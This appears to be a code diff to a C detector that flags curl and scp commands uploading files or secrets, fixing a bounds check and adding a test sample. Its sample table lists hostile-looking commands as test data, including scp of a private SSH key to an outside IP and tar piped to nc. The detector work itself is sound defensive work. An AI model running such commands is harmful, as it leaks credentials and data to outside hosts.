@@ -34,7 +34,7 @@ static struct text curl_upload(const struct command *command)
             return next;
         bool sends = text_equal(word, TEXT("-d")) || text_equal(word, TEXT("-F")) || text_starts(word, TEXT("--data")) || text_starts(word, TEXT("--form"));
         size_t at = text_find(next, '@');
-        if (sends && (at == 0 || (at < next.count && next.bytes[at - 1] == '=')))
+        if (sends && at < next.count && (at == 0 || next.bytes[at - 1] == '='))
             return (struct text){next.bytes + at + 1, next.count - at - 1};
     }
     return TEXT_NONE;
@@ -142,6 +142,7 @@ static const struct rule_sample samples[] = {
     {false, "$ sh -c tar cz /opt/app | ssh -p 2222 backup@192.168.1.2 'cat > app.tgz'"},
     {false, "$ sh -c tar cz /opt/app | nc 192.168.1.2 9000"},
     {true, "$ scp /home/pi/.ssh/id_rsa u@198.51.100.7:/tmp/"},
+    {false, "$ curl http://198.51.100.7/ -d"},
     {false, "$ curl -O https://example.org/file.tgz"},
     {false, "$ scp /etc/config/network root@192.168.1.1:/tmp/"},
     {false, "$ dig +short www.example.org"},
